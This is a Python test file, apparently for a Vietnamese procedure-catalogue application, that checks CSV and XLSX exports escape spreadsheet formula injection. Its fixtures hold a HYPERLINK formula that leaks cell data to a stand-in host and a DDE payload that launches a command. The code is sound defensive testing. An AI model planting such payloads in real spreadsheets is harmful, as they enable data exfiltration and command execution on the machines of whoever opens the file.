"""Catalogue exports never carry a spreadsheet formula: a text cell that starts with
= + - @, a tab or a line break is prefixed with a quote (OWASP), in CSV and in XLSX."""

import csv
import io

import pytest

from directives.models import Agency
from procedures.export import neutralise
from tests.factories import catalogue, make_procedure

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Đăng ký khai sinh", "Đăng ký khai sinh"),
        ("a=1", "a=1"),
        ("", ""),
        (3, 3),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def hostile(site):
    index = catalogue(site)
    agency = Agency.objects.create(name="-1+1")
    make_procedure(index, "9.000001", title=HOSTILE, field="@cmd|' /C calc'!A0", agency=agency)
    return index


def test_csv_cells_stay_text(client, hostile):
    text = client.get(hostile.url + "?xuat=csv").content.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["Tên thủ tục"] == "'" + HOSTILE
    assert row["Lĩnh vực"] == "'@cmd|' /C calc'!A0"
    assert row["Cơ quan thực hiện"] == "'-1+1"


def test_xlsx_cells_are_strings_not_formulas(client, hostile):
    from openpyxl import load_workbook

    content = client.get(hostile.url + "?xuat=xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert "'" + HOSTILE in values and "'-1+1" in values
